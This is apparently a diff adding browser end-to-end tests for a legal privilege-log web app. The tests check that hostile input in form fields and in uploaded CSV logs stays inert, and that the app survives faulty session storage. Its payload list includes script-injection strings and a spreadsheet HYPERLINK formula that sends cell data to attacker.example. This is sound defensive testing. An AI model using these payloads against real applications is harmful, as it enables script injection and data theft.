@@ -1,0 +1,117 @@
+// End-to-end: hostile text in every field and in a log, and faults of the tab's storage.
+
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { serve, launch, openApp, outcome, violations } from "./support.mjs";
+
+let server, browser;
+before(async () => {
+  server = await serve();
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+const HOSTILE = [
+  "<script>window.__pwned = 'script'</script>",
+  "\"><img src=x onerror=\"window.__pwned = 'img'\">",
+  "javascript:window.__pwned='url'",
+  "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
+  "+SUM(1,2)", "-2+3", "@cmd",
+  "\u202Egnp.exe\u202C right-to-left override",
+  "x".repeat(1024 * 1024),
+];
+
+test("hostile text in every field is shown as text, never run, and nothing is sent", async () => {
+  const { context, page, log } = await openApp(browser, server.url);
+  await page.waitForLoadState("networkidle");
+  const loaded = log.requests.length;
+  await page.getByRole("button", { name: "Load the Melamine example" }).click();
+  for (const text of HOSTILE) {
+    for (const id of ["#matter-court", "#matter-case_name", "#matter-court_number", "#matter-document", "#matter-description"]) {
+      await page.fill(id, text);
+    }
+    await page.locator(".documents details").first().evaluate((d) => { d.open = true; });
+    const shown = await page.locator('.document-commands[data-document="memorandum"] .document').textContent();
+    if (text.length < 1000) assert.ok(shown.includes(text.slice(0, 40)) || shown.includes(text.trim().slice(0, 20)), `shown as text: ${text.slice(0, 30)}`);
+    assert.equal(await page.evaluate(() => window.__pwned), undefined, text.slice(0, 40));
+  }
+  // The markup went nowhere as markup.
+  assert.equal(await page.locator(".documents img").count(), 0);
+  assert.equal(await page.locator(".documents script").count(), 0);
+  // Exported HTML escapes it all.
+  await page.fill("#matter-description", HOSTILE[1]);
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.locator('.document-commands[data-document="memorandum"]').getByRole("button", { name: "Download HTML" }).click(),
+  ]);
+  const html = await readFile(await download.path(), "utf8");
+  assert.ok(!html.includes("<img"), "exported HTML has no live markup");
+  assert.ok(html.includes("&lt;img src=x onerror="));
+  assert.equal(await outcome(page), "protective_order_granted");
+  assert.deepEqual(log.requests.slice(loaded).filter((u) => !u.startsWith("blob:")), []);
+  assert.deepEqual(await violations(page), []);
+  await context.close();
+});
+
+test("hostile log cells are shown as text, and exported CSV neutralises formulas", async () => {
+  const { context, page } = await openApp(browser, server.url);
+  const rows = ["Entry ID,Description,Privilege Asserted"];
+  HOSTILE.slice(0, 8).forEach((text, i) => rows.push(`"${text.replaceAll('"', '""')}","${text.replaceAll('"', '""')} memo on the injury finding",DPP`));
+  await page.setInputFiles("#open-log", { name: "hostile.csv", mimeType: "text/csv", buffer: Buffer.from(rows.join("\n")) });
+  await page.waitForSelector(".log-counts button");
+  await page.locator(".log-row button.link").first().click();
+  await page.waitForSelector(".log-entry");
+  assert.equal(await page.evaluate(() => window.__pwned), undefined);
+  assert.equal(await page.locator(".log-review img").count(), 0);
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("button", { name: "Download results (CSV)" }).click(),
+  ]);
+  const csv = await readFile(await download.path(), "utf8");
+  for (const line of csv.split(/\r?\n/).slice(1).filter(Boolean)) {
+    assert.doesNotMatch(line, /^[=+\-@]/, line.slice(0, 40));
+  }
+  assert.match(csv, /'=HYPERLINK/);
+  assert.deepEqual(await violations(page), []);
+  await context.close();
+});
+
+test("a corrupt kept matter: the app starts, says so, and works", async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.addInitScript(() => {
+    if (!sessionStorage.getItem("corrupted")) {
+      sessionStorage.setItem("privcheck.matter.v1", "{\"format\":\"privcheck-matter\",\"version\":0}");
+      sessionStorage.setItem("corrupted", "1");
+    }
+  });
+  await page.goto(server.url);
+  await page.waitForSelector(".notice.error");
+  assert.match(await page.textContent(".notice.error"), /The matter kept in this tab could not be read \(version: given 0; allowed: 1/);
+  await page.getByRole("button", { name: "Load the Melamine example" }).click();
+  assert.equal(await outcome(page), "protective_order_granted");
+  await context.close();
+});
+
+test("storage that refuses to keep the matter: the answers stay and the app says so", async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.addInitScript(() => {
+    Storage.prototype.setItem = function () {
+      throw new DOMException("The quota has been exceeded.", "QuotaExceededError");
+    };
+  });
+  await page.goto(server.url);
+  await page.waitForSelector(".outcome[data-outcome]");
+  await page.getByRole("button", { name: "Load the Melamine example" }).click();
+  await page.waitForSelector(".notice.error");
+  assert.match(await page.textContent(".notice.error"), /storage refused the matter .*the answers are still here/);
+  await page.locator("#q-personal_review-no").check();
+  assert.equal(await outcome(page), "claim_defective");
+  assert.equal(await page.inputValue("#matter-case_name"), "Melamine Chemicals, Inc. v. United States");
+  await context.close();
+});
